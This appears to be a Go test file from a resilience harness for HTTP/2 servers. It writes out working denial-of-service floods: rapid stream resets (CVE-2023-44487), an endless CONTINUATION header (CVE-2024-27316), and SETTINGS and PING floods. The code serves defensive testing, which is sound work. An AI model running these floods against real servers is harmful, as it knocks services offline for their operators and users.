//go:build linux && !race

package attack_test

import (
	"context"
	"encoding/binary"
	"net"

	"golang.org/x/net/http2"
)

// flood sends frames of HTTP/2 as fast as the server reads them, and reads what it sends: "rapid resets" begins
// requests and cancels them (CVE-2023-44487), "continuations" begins a header that does not end (CVE-2024-27316), and
// "settings" and "pings" are frames that the server must acknowledge (CVE-2019-9515, CVE-2019-9512).
func flood(ctx context.Context, t *target, kind string) (result, error) {
	return t.run(ctx, func(conn net.Conn, all *counts) {
		c := newH2(conn, all, http2.Setting{})
		defer c.end()
		block := c.requestBlock()
		field := c.encode(c.requestFields()[5:]) // te: trailers, a reference to the table now
		part := make([]byte, 0, 16<<10)
		for len(part)+len(field) <= cap(part) {
			part = append(part, field...)
		}
		if kind == "continuations" {
			all.streams.Add(1)
			c.write.Lock()
			_ = c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block})
			c.write.Unlock()
		}
		for i := uint32(0); ; i++ {
			var err error
			c.write.Lock()
			switch kind {
			case "rapid resets":
				all.streams.Add(1)
				id := 2*i + 1
				if err = c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}); err == nil {
					err = c.framer.WriteRSTStream(id, http2.ErrCodeCancel)
				}
			case "continuations":
				err = c.framer.WriteContinuation(1, false, part)
			case "settings":
				err = c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: i % 60_000})
			case "pings":
				var data [8]byte
				binary.BigEndian.PutUint32(data[:], i)
				err = c.framer.WritePing(false, data)
			}
			c.write.Unlock()
			if err != nil {
				return
			}
		}
	})
}

// floods are those that every HTTP/2 server must withstand.
func floods(at target) (all []assault) {
	for _, kind := range []string{"rapid resets", "continuations", "settings", "pings"} {
		all = append(all, assault{Name: "flood of " + kind, Kind: kind, Target: at})
	}
	return all
}
